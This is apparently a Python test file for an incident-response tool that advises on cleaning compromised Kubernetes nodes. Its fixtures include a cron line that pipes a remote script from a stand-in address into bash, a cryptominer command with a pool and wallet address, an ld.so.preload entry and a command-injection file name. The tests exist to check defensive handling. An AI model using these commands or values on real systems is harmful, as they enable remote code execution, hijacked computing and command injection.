"""What to do on a node: whatever starts the intruder's programs again goes before the programs are stopped."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path
from shlex import split

import msgspec

from kubewitness.detect.host.finding import HostFinding
from kubewitness.incident.investigate import Options, investigate
from kubewitness.incident.node.advice import advice
from kubewitness.model.collection import FORMAT, MANIFEST, PROCESSES, Header, ProcessRecord
from kubewitness.model.host import Host
from kubewitness.model.incident import Incident, ObjectName
from kubewitness.rules.loader import RuleSet

WALLET = "46EPFzvnX5GH61ejkPpNcRNm8kVjs8oHS9VwCkKRCrJX27XEW2y1NPLfSa54DGHxqnKfzDUVW1jzBfekk3hrCV"
HEAD = "USER PID PPID STARTED COMMAND\n"
MINER = f"root 4411 1 Sun Nov 22 03:59:54 2026 ./.system -o pool.supportxmr.com:3333 -u {WALLET}"
CRON = "MAILTO=root\n* * * * * root curl -s http://203.0.113.9/k.sh | bash\n"


def incident(folder: Path, rules: RuleSet, files: dict[str, str]) -> Incident:
    """The one incident of a machine that holds these files."""
    for path, text in files.items():
        (folder / "nodes/n" / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / "nodes/n" / path).write_text(text)
    (found,) = investigate([str(folder)], rules=rules, options=Options()).incidents
    return found


def test_cron_and_preloaded_libraries_are_taken_away_before_the_miner_is_stopped(
    tmp_path: Path, rules: RuleSet
) -> None:
    found = incident(
        tmp_path, rules, {"ps.txt": HEAD + MINER, "etc/cron.d/a b": CRON, "etc/ld.so.preload": "/tmp/.x/lib.so\n"}
    )
    stops = [action for action in found.actions if action.phase == "stop"]
    assert len(stops) == 2
    assert stops[0].command.splitlines()[1:] == [
        "cp -a --parents '/etc/cron.d/a b' .",
        "cp -a --parents /etc/ld.so.preload .",
        "# then take out of '/etc/cron.d/a b': line 2",
        "# then take out of /etc/ld.so.preload: line 1",
    ]
    assert stops[1].command.splitlines() == ["ps -o pid,lstart,args -p 4411", "kill -STOP 4411", "kill -KILL 4411"]
    assert "still shows as the intruder's" in stops[1].detail.en


def test_where_nothing_starts_it_again_nothing_is_taken_away(tmp_path: Path, rules: RuleSet) -> None:
    harmless = "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
    found = incident(tmp_path, rules, {"ps.txt": HEAD + MINER, "etc/crontab": harmless})
    assert [action.command.split()[0] for action in found.actions if action.phase == "stop"] == ["ps"]


def test_names_of_files_break_no_command(tmp_path: Path, rules: RuleSet) -> None:
    found = incident(tmp_path, rules, {"ps.txt": HEAD + MINER, "etc/cron.d/$(id)`id`;id": CRON})
    (copy,) = [
        line for one in found.actions for line in one.command.splitlines() if "cron.d" in line and line[0] != "#"
    ]
    assert split(copy)[-2:] == ["/etc/cron.d/$(id)`id`;id", "."]


def test_the_snapshot_begins_with_our_own_collector(tmp_path: Path, rules: RuleSet) -> None:
    found = incident(tmp_path, rules, {"ps.txt": HEAD + MINER})
    assert "kubewitness collect --output ." in found.actions[0].command.splitlines()


def archived(folder: Path, name: str) -> str:
    """A cut archive of ours: the miner alone, and a manifest without end."""
    header = Header(FORMAT, "kubewitness 0.2.0", "n1", "2026-11-22T04:00:00Z")
    miner = ProcessRecord(4411, 1, ".system", ("./.system", "-o", "pool.supportxmr.com:3333", "-u", WALLET), "S", 0)
    path = folder / name
    with tarfile.open(path, "w") as tar:
        for member, record in ((MANIFEST, header), (PROCESSES, miner)):
            data = msgspec.json.encode(record) + b"\n"
            info = tarfile.TarInfo(f"kubewitness-n1/{member}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return str(path)


def test_where_the_evidence_is_an_archive_of_ours_it_is_named_and_its_hash_is_to_be_kept(
    tmp_path: Path, rules: RuleSet
) -> None:
    path = archived(tmp_path, "n 1.tar")
    (found,) = investigate([path], rules=rules, options=Options()).incidents
    snapshot = found.actions[0]
    assert f"A snapshot of 2026-11-22 04:00:00 UTC exists: {path}. Keep it and its SHA-256" in snapshot.detail.en
    assert f"已有 2026-11-22 04:00:00 UTC 的快照：{path}。" in snapshot.detail.zh
    lines = snapshot.command.splitlines()
    assert lines[1] == f"sha256sum '{path}'"
    assert "kubewitness collect --output ." in lines


def test_where_files_lie_there_by_themselves_no_snapshot_is_claimed(tmp_path: Path, rules: RuleSet) -> None:
    found = incident(tmp_path, rules, {"ps.txt": HEAD + MINER})
    assert found.actions[0].detail.en.startswith("Do not stop Docker")
    assert "sha256sum" not in found.actions[0].command


def test_a_process_that_two_lists_show_under_two_commands_is_named_once(tmp_path: Path, rules: RuleSet) -> None:
    other = MINER.partition(" -u ")[0] + " --threads 4"
    found = incident(tmp_path, rules, {"ps.txt": HEAD + MINER, "ps2.txt": HEAD + other})
    assert any("(pid 4411)" in one.en for one in found.story)


def test_a_pod_is_kept_before_it_is_deleted_and_a_name_that_is_none_stands_in_no_command() -> None:
    told: list[HostFinding] = []
    pods = [ObjectName("pods", "shop", "web-0"), ObjectName("pods", "shop", "--all")]
    (revoke,) = [one for one in advice(Host("n"), told, (), pods) if one.phase == "revoke"]
    assert revoke.command.splitlines() == [
        "kubectl get -n shop pods/web-0 -o yaml > pods-shop-web-0.yaml", "kubectl delete -n shop pods/web-0",
    ]  # fmt: skip
    assert "does not come back by itself" in revoke.breaks.en
